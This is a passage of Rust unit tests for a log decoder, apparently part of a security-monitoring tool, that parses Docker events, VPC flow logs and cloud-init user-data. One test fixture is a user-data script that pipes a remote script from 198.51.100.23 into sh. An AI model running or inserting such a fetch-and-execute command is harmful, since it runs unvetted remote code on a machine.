    fn new(starts: &'a [(u64, usize)]) -> Self {
        LineCounter { starts }
    }

    fn line_at(&mut self, offset: usize) -> u64 {
        let i = self
            .starts
            .partition_point(|l| l.1 <= offset)
            .saturating_sub(1);
        self.starts.get(i).map_or(0, |l| l.0)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Cursor;

    fn run(data: &str) -> (Vec<Event>, DecodeStats) {
        let input = Input {
            path: Arc::from("mem"),
            size: None,
            reader: Box::new(Cursor::new(data.as_bytes().to_vec())),
        };
        let mut s = EventStream::new(input, DecodeOptions::default());
        let mut out = Vec::new();
        let mut stats = DecodeStats::default();
        while s.fill(&mut out, &mut stats, 2).unwrap() {}
        (out, stats)
    }

    const START: &str = r#"{"Type":"container","Action":"start","Actor":{"ID":"abc","Attributes":{"image":"x"}},"timeNano":5}"#;

    #[test]
    fn json_lines_with_garbage_are_counted_and_located() {
        let (ev, st) = run(&format!(
            "{START}\nnot json at all\n{{\"truncated\": \n\n{START}\n"
        ));
        assert_eq!(ev.len(), 2);
        assert_eq!(ev[1].source.line, 5);
        assert_eq!(st.skipped["unrecognized line"].first[0].line, 2);
        assert_eq!(st.skipped["invalid JSON"].first[0].line, 3);
        assert_eq!(st.formats[&Format::DockerEvents].records, 2);
    }

    fn run_with(data: &str, opts: DecodeOptions) -> (Vec<Event>, DecodeStats) {
        let input = Input {
            path: Arc::from("mem"),
            size: None,
            reader: Box::new(Cursor::new(data.as_bytes().to_vec())),
        };
        let mut s = EventStream::new(input, opts);
        let mut out = Vec::new();
        let mut stats = DecodeStats::default();
        while s.fill(&mut out, &mut stats, 2).unwrap() {}
        (out, stats)
    }

    #[test]
    fn container_log_prefixes_are_taken_off_json_and_text_lines_alike() {
        let data = format!(
            "2026-11-20T09:00:41.518123456Z stdout F {START}\n\
             2026-11-20T09:00:42Z stdout F version account-id instance-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end action log-status\n\
             2026-11-20T09:00:42Z stdout F 5 111122223333 i-0b2c3d4e5f6071829 eni-00b2c3d4e 10.20.1.16 10.20.0.2 49152 53 6 40 5120 1795167300 1795167360 ACCEPT OK\n"
        );
        let (ev, st) = run(&data);
        assert_eq!(st.skipped_total(), 0, "{st:?}");
        assert_eq!(st.formats[&Format::DockerEvents].records, 1);
        // The header line is a record of the format too.
        assert_eq!(st.formats[&Format::VpcFlow].records, 2);
        assert_eq!(ev[0].source.line, 1);
        assert_eq!(ev.last().map(|e| e.source.line), Some(3));
    }

    #[test]
    fn partial_lines_are_joined_per_stream_and_located_at_their_first_line() {
        let (a, b) = START.split_at(40);
        let data = format!(
            "2026-11-20T09:00:41Z stdout P {a}\n\
             2026-11-20T09:00:41Z stderr F some warning on stderr\n\
             2026-11-20T09:00:41Z stdout F {b}\n\
             {{\"log\":\"{}\",\"stream\":\"stdout\",\"time\":\"2026-11-20T09:00:43Z\"}}\n\
             {{\"log\":\"{}\\n\",\"stream\":\"stdout\",\"time\":\"2026-11-20T09:00:43Z\"}}\n",
            a.replace('"', "\\\""),
            b.replace('"', "\\\""),
        );
        let (ev, st) = run(&data);
        assert_eq!(st.formats[&Format::DockerEvents].records, 2, "{st:?}");
        let lines: Vec<u64> = ev.iter().map(|e| e.source.line).collect();
        assert_eq!(lines, [1, 4]);
        assert_eq!(st.skipped["unrecognized line"].first[0].line, 2);
    }

    #[test]
    fn a_partial_run_past_the_line_limit_is_a_located_skip_not_memory() {
        let opts = DecodeOptions {
            max_line_bytes: 200,
            ..DecodeOptions::default()
        };
        let mut data = String::new();
        for _ in 0..50 {
            data.push_str("2026-11-20T09:00:41Z stdout P ");
            data.push_str(&"x".repeat(30));
            data.push('\n');
        }
        data.push_str("2026-11-20T09:00:41Z stdout F end\n");
        data.push_str(&format!("2026-11-20T09:00:41Z stdout F {START}\n"));
        data.push_str("2026-11-20T09:00:41Z stdout P never ends\n");
        let (ev, st) = run_with(&data, opts);
        assert_eq!(ev.len(), 1);
        assert_eq!(ev[0].source.line, 52);
        let long = &st.skipped["line too long"];
        assert_eq!((long.count, long.first[0].line), (1, 1));
        assert!(long.first[0].detail.contains("1503 bytes"), "{long:?}");
        assert_eq!(st.skipped["partial line never completed"].first[0].line, 53);
    }

    #[test]
    fn a_document_followed_by_lines_costs_nothing_and_the_lines_are_read() {
        let pretty = "{\"Records\": [\n  {\"Type\":\"container\",\"Action\":\"start\",\n   \"Actor\":{\"ID\":\"a\"},\"timeNano\":1}\n]}";
        // No newline after the document: the next file's first line joins its last.
        let data = format!("{pretty}{START}\n{START}\nnot a record\n[\n{START}\n]\n");
        let (ev, st) = run(&data);
        let lines: Vec<u64> = ev.iter().map(|e| e.source.line).collect();
        assert_eq!(lines, [2, 4, 5, 8], "{st:?}");
        assert_eq!(st.skipped_total(), 1);
        assert_eq!(st.skipped["unrecognized line"].first[0].line, 6);
    }

    #[test]
    fn a_broken_document_costs_its_own_lines_and_reading_resumes() {
        // Cut short, then text lines of another format: they break the document.
        let data = format!(
            "{{\"Records\": [\n  {{\"Type\":\"container\",\n   \"Actor\":\nversion account-id instance-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end action log-status\n{START}\n"
        );
        let (ev, st) = run(&data);
        assert_eq!(ev.len(), 1);
        assert_eq!(ev[0].source.line, 5);
        let bad = &st.skipped["invalid JSON"];
        assert_eq!((bad.count, bad.first[0].line), (1, 1), "{st:?}");
        assert_eq!(
            bad.first[0].detail,
            "JSON document from line 1 cut short: line 4 cannot continue it; lines 1-3 skipped"
        );
        assert_eq!(st.formats[&Format::VpcFlow].records, 1);
        // Balanced but not JSON: the message and the location name the same line.
        let data = format!("[\n  {{\"a\": 1}},\n  {{\"b\" 2}}\n]\n{START}\n");
        let (ev, st) = run(&data);
        assert_eq!(ev.len(), 1);
        let bad = &st.skipped["invalid JSON"].first[0];
        assert_eq!(bad.line, 1);
        assert!(
            bad.detail
                .starts_with("JSON document from line 1: expected `:` at line 3 column"),
            "{bad:?}"
        );
        assert!(bad.detail.contains("lines 1-4 skipped"), "{bad:?}");
    }

    #[test]
    fn an_oversized_document_is_lost_to_its_end_and_reading_goes_on() {
        let opts = DecodeOptions {
            max_document_bytes: 300,
            ..DecodeOptions::default()
        };
        let body = [START; 10].join(",\n");
        let data = format!("[\n{body}\n]\n{START}\n[\n{body}\n");
        let (ev, st) = run_with(&data, opts);
        assert_eq!(ev.len(), 1);
        assert_eq!(ev[0].source.line, 13);
        let big = &st.skipped["document too large"];
        assert_eq!(big.count, 2, "{st:?}");
        assert_eq!(
            big.first[0].detail,
            "JSON document from line 1 over 300 bytes; lines 1-12 skipped"
        );
        // Cut off by the end of the input: lost to its last line.
        assert_eq!(
            big.first[1].detail,
            "JSON document from line 14 over 300 bytes; lines 14-24 skipped"
        );
        assert_eq!(st.skipped_total(), 2);
    }

    #[test]
    fn a_file_of_user_data_is_one_event_tied_to_the_instance_its_path_names() {
        let read = |path: &str, data: &[u8]| {
            let input = Input {
                path: Arc::from(path),
                size: None,
                reader: Box::new(Cursor::new(data.to_vec())),
            };
            let mut s = EventStream::new(input, DecodeOptions::default());
            let (mut out, mut st) = (Vec::new(), DecodeStats::default());
            while s.fill(&mut out, &mut st, 10).unwrap() {}
            (out, st)
        };
        let script = b"#!/bin/bash\ncurl -fsSL http://198.51.100.23/x.sh | sh\n";
        let (ev, st) = read(
            "/var/lib/cloud/instances/i-0abc1234def567890/user-data.txt",
            script,
        );
        assert_eq!(ev.len(), 1);
        assert_eq!(st.formats[&Format::UserData].records, 1);
        assert_eq!(st.skipped_total(), 0);
        let pullwatch_model::EventKind::UserData(u) = &ev[0].kind else {
            panic!("{ev:?}")
        };
        assert_eq!(u.instance_id.as_deref(), Some("i-0abc1234def567890"));
        assert!(u.content.contains("curl -fsSL"));
        let (ev, _) = read("saved/i-0abc1234def567890-user-data.sh", script);
        let pullwatch_model::EventKind::UserData(u) = &ev[0].kind else {
            panic!("{ev:?}")
        };
        assert_eq!(u.instance_id.as_deref(), Some("i-0abc1234def567890"));
        let (ev, _) = read("boot.sh", script);
        let pullwatch_model::EventKind::UserData(u) = &ev[0].kind else {
            panic!("{ev:?}")
        };
        assert_eq!(u.instance_id, None);
        assert_eq!(u.origin, "boot.sh");
    }

    #[test]
    fn a_document_of_blank_lines_is_bounded_by_its_line_table_too() {
        let opts = DecodeOptions {
            max_document_bytes: 1000,
            ..DecodeOptions::default()
        };
        // 200 bytes of text, but 201 lines: past the limit once the table is counted.
        let data = format!("[\n{}]\n{START}\n", "\n".repeat(199));
        let (ev, st) = run_with(&data, opts);
        assert_eq!(ev.len(), 1);
        let big = &st.skipped["document too large"].first[0];
        assert_eq!(big.line, 1);
        assert!(big.detail.ends_with("lines 1-201 skipped"), "{big:?}");
    }

    #[test]
    fn lines_that_each_open_a_document_are_read_again_a_bounded_number_of_times() {
        // Every line opens a value and none closes: each is lost, and the nesting cap
        // keeps the rereading linear (without it, quadratic in the number of lines).
        let n = 2_000;
        let data = format!("{}{START}\n", "{\n".repeat(n));
        let (ev, st) = run(&data);
        // One document, too deep to parse from line 129 on: lost whole, in one skip.
        assert!(ev.is_empty());
        let bad = &st.skipped["invalid JSON"];
        assert_eq!(bad.count, 1, "{st:?}");
        assert_eq!(
            bad.first[0].detail,
            format!("JSON document from line 1 nested deeper than 128 levels at line 129; lines 1-{} skipped", n + 1)
        );
        let bad = &st.skipped["invalid JSON"];
        assert!(bad.count >= 1, "{st:?}");
        let lost: u64 = st.skipped.values().map(|s| s.count).sum();
        assert!(lost <= n as u64 + 1, "{st:?}");
    }

    #[test]
    fn what_is_read_again_after_broken_documents_is_capped() {
        // Past the lines read plus a megabyte, a broken document's lines are lost
        // rather than read again: the scan stays linear whatever the input.
        // 100 levels open, then lines that keep them open to the end of the input: each
        // level's line would start a document that breaks at the end, again and again.
        let n = 20_000;
        let data = format!("{}{}", "[\n".repeat(100), "1,\n".repeat(n));
        let input = Input {
            path: Arc::from("mem"),
            size: None,
            reader: Box::new(Cursor::new(data.into_bytes())),
        };
        let mut s = EventStream::new(input, DecodeOptions::default());
        let (mut out, mut st) = (Vec::new(), DecodeStats::default());
        while s.fill(&mut out, &mut st, 1000).unwrap() {}
        let (fed, reread) = (s.frame.fed, s.frame.reread);
        assert_eq!(fed, 200 + 3 * n as u64);
        // The cap was reached: far more would have been read again without it.
        assert!(
            reread > REREAD_SLACK && reread <= fed + REREAD_SLACK,
            "{reread}"
        );
        let lost: u64 = st.skipped.values().map(|s| s.count).sum();
        assert!(lost >= 1 && lost <= n as u64 + 1, "{st:?}");
    }

    #[test]
    fn pretty_printed_documents_and_arrays_keep_line_numbers() {
        let pretty = "[\n  {\"Type\":\"container\",\"Action\":\"start\",\n   \"Actor\":{\"ID\":\"a\"},\"timeNano\":1},\n  {\"Type\":\"container\",\"Action\":\"create\",\"Actor\":{\"ID\":\"b\"},\"timeNano\":2}\n]\n";
        let (ev, st) = run(pretty);
        assert_eq!(ev.len(), 2, "{st:?}");
        assert_eq!(ev[0].source.line, 2);
        assert_eq!(ev[1].source.line, 4);
    }

    #[test]
    fn invalid_utf8_is_skipped_with_its_column() {
        let mut data = b"ab\xffcd\n".to_vec();
        data.extend_from_slice(START.as_bytes());
        let input = Input {
            path: Arc::from("mem"),
            size: None,
            reader: Box::new(Cursor::new(data)),
        };
        let mut s = EventStream::new(input, DecodeOptions::default());
        let (mut out, mut st) = (Vec::new(), DecodeStats::default());
        while s.fill(&mut out, &mut st, 10).unwrap() {}
        assert_eq!(out.len(), 1);
        assert_eq!(
            st.skipped["invalid UTF-8"].first[0].detail,
            "invalid byte at column 3"
        );
    }
}
